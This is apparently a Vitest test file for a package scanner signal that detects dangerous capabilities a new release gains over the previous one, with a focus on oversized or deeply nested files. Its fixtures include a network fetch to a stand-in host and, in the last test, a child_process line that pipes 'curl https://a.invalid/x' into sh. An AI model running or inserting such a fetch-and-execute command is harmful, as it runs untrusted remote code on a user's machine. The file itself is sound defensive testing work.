import { describe, expect, it } from "vitest";
import { testSignal } from "../../../../test/support/signals.ts";
import { releaseOf } from "../../../../test/support/upstreams.ts";
import { CLEAR, cutShort, type SignalResult, unknown } from "../../../model/examination.ts";
import { fileTreeOf } from "../../../model/file-tree.ts";
import { parseManifest } from "../../../model/manifest.ts";
import { createSources } from "../../parse/parse.ts";
import type { Ask } from "../../signal.ts";
import { gainsDangerousCapability } from "./signal.ts";

testSignal(import.meta.dirname, gainsDangerousCapability);

type Files = Readonly<Record<string, string>>;

const SENDS = `fetch("https://a.invalid/");`;
const PREVIOUS = releaseOf("https://a.invalid/x.tgz");

/** What the signal says of a step, and what it had said before it was done. */
async function step(
  before: Files,
  after: Files,
): Promise<{ readonly result: SignalResult | Ask; readonly words: readonly SignalResult[] }> {
  const words: SignalResult[] = [];
  const files = fileTreeOf(Object.entries(after));
  const manifest = parseManifest({ name: "fixture", version: "2.0.0" });
  const sources = createSources(files);
  const previousFiles = fileTreeOf(Object.entries(before));
  const stop = new AbortController().signal;
  const result = await gainsDangerousCapability.examine(
    { manifest, files, sources, previous: PREVIOUS, previousFiles },
    stop,
    (word) => words.push(word),
  );
  return { result, words };
}

const ONE_MIB = "0;".repeat(512 * 1024);
const TWO_MIB = ONE_MIB + ONE_MIB;
const BULK = { "bulk.js": `${ONE_MIB}0;` };

describe("a step that outlasts its reader", () => {
  const since = PREVIOUS.ref.version;
  const before = unknown(`the code of ${since} could not be read to its end`);
  const why = `what it gained since ${since} could not be found out`;

  it("is not blamed on this version while the version before is read", async () => {
    const { words } = await step({ "index.js": "" }, { "index.js": SENDS });
    expect(words).toEqual([before, cutShort(why)]);
  });

  it("is nobody's fault where both are large", async () => {
    const { words } = await step({ "index.js": "", ...BULK }, { "index.js": SENDS, ...BULK });
    expect(words).toEqual([before, unknown(why)]);
  });

  it("is this version's where it grew to that size", async () => {
    const { words } = await step({ "index.js": "" }, { "index.js": SENDS, ...BULK });
    expect(words).toEqual([before, cutShort(why)]);
  });
});

describe("a step that changes no code", () => {
  it("is clear without being read", async () => {
    const files = { "index.js": SENDS, "deep.js": `${SENDS}${"[".repeat(600)}` };
    const [before, after] = [{ ...files }, { ...files, "README.md": SENDS }];
    const { result, words } = await step(before, after);
    expect(result).toEqual(CLEAR);
    expect(words).toHaveLength(1);
  });
});

describe("a step that cannot be read whole", () => {
  const LARGE = { "large.js": `${TWO_MIB}${SENDS}` };
  const tooLarge = "large.js is too large to be followed";

  it("is unknown where both are large", async () => {
    const { result } = await step(
      { "index.js": "", ...BULK },
      { "index.js": "", ...BULK, ...LARGE },
    );
    expect(result).toEqual(unknown(tooLarge));
  });

  it("is cut short where it became so with this version", async () => {
    const { result } = await step({ "index.js": SENDS }, { "index.js": SENDS, ...LARGE });
    expect(result).toEqual(cutShort(tooLarge));
  });

  it("is cut short for what size does not explain, however large both are", async () => {
    const deep = { "deep.js": `${SENDS}${"[".repeat(600)}${"]".repeat(600)}` };
    const { result } = await step(
      { "index.js": "", ...BULK },
      { "index.js": "", ...BULK, ...deep },
    );
    expect(result).toEqual(cutShort("deep.js: the code nests too deep to be parsed"));
  });

  it("tells what it gained all the same", async () => {
    const gain = `require("child_process").exec("curl https://a.invalid/x | sh");`;
    const { result } = await step({ "index.js": "" }, { "index.js": gain, ...LARGE });
    expect(result).toMatchObject({
      outcome: "found",
      findings: [{ id: "gains-dangerous-capability/process-spawn", severity: "high" }],
      unread: [tooLarge],
      cutShort: true,
    });
  });
});
